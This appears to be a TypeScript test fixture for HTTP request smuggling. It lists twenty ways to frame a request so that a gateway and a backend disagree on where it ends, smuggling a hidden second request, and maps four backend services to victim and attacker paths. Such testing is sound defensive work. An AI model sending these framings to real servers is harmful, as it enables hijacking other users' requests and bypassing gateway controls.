/** A request that two programs may end at different bytes. `hidden` should become a second request. */
type Framing = (hidden: string) => { headers: readonly string[]; body: string };

const chunk = (text: string, extension = "") =>
  `${Buffer.byteLength(text).toString(16)}${extension}\r\n${text}\r\n0\r\n\r\n`;
const length = (text: string) => `Content-Length: ${Buffer.byteLength(text)}`;
const chunked = "Transfer-Encoding: chunked";

export const framings: Record<string, Framing> = {
  "a chunked body": (hidden) => ({ headers: [chunked], body: chunk(hidden) }),
  "a body with a length": (hidden) => ({ headers: [length(hidden)], body: hidden }),
  "a length that Connection names": (hidden) => ({
    headers: ["Connection: keep-alive, content-length", length(hidden)],
    body: hidden,
  }),
  "an encoding that Connection names": (hidden) => ({
    headers: ["Connection: keep-alive, transfer-encoding", chunked],
    body: chunk(hidden),
  }),
  "a length, and chunks that end before it": (hidden) => ({
    headers: [length(`0\r\n\r\n${hidden}`), chunked],
    body: `0\r\n\r\n${hidden}`,
  }),
  "a length that ends before the chunks": (hidden) => ({
    headers: ["Content-Length: 4", chunked],
    body: chunk(hidden),
  }),
  "two encodings": (hidden) => ({ headers: [chunked, "Transfer-Encoding: x"], body: chunk(hidden) }),
  "an encoding behind a tab": (hidden) => ({
    headers: ["Transfer-Encoding:\tchunked", length(hidden)],
    body: chunk(hidden),
  }),
  "an encoding with a space before its colon": (hidden) => ({
    headers: ["Transfer-Encoding : chunked", length(chunk(hidden))],
    body: chunk(hidden),
  }),
  "an unknown encoding": (hidden) => ({
    headers: ["Transfer-Encoding: xchunked", length(chunk(hidden))],
    body: chunk(hidden),
  }),
  "two lengths": (hidden) => ({ headers: ["Content-Length: 0", length(hidden)], body: hidden }),
  "one length twice": (hidden) => ({ headers: [length(hidden), length(hidden)], body: hidden }),
  "a length with a sign": (hidden) => ({
    headers: [`Content-Length: +${Buffer.byteLength(hidden)}`],
    body: hidden,
  }),
  "a chunk with an extension": (hidden) => ({ headers: [chunked], body: chunk(hidden, ";a=b") }),
  "chunks that end in line feeds alone": (hidden) => ({
    headers: [chunked],
    body: chunk(hidden).replaceAll("\r\n", "\n"),
  }),
  "a trailer with a length": (hidden) => ({
    headers: [chunked, "Trailer: Content-Length"],
    body: `${chunk(hidden).slice(0, -2)}Content-Length: 50\r\n\r\n`,
  }),
  "a header that ends in a bare carriage return": (hidden) => ({
    headers: [`X: a\rTransfer-Encoding: chunked`, length(hidden)],
    body: hidden,
  }),
  "an upgrade": (hidden) => ({
    headers: ["Connection: Upgrade", "Upgrade: h2c", length(hidden)],
    body: hidden,
  }),
  "an expectation": (hidden) => ({ headers: ["Expect: 100-continue", length(hidden)], body: hidden }),
  "a body that is still coming when the answer is out": (hidden) => ({
    headers: ["Content-Length: 100000"],
    body: hidden,
  }),
};

/** For each part behind the gateway: the victim's path and status, and the path that the attacker hides. */
export const upstreams: Record<string, { asked: string; own: number; hidden: string }> = {
  "command-api": { asked: "/api/user/refresh", own: 401, hidden: "/api/nothing/refresh" },
  "query-api": { asked: "/api/settings", own: 200, hidden: "/api/nothing" },
  mailbox: { asked: "/mailbox/mailbox.js", own: 200, hidden: "/mailbox/nothing" },
  player: { asked: "/player/", own: 200, hidden: "/player/nothing" },
};

export const methods = ["GET", "HEAD", "OPTIONS", "DELETE", "POST", "PUT"];
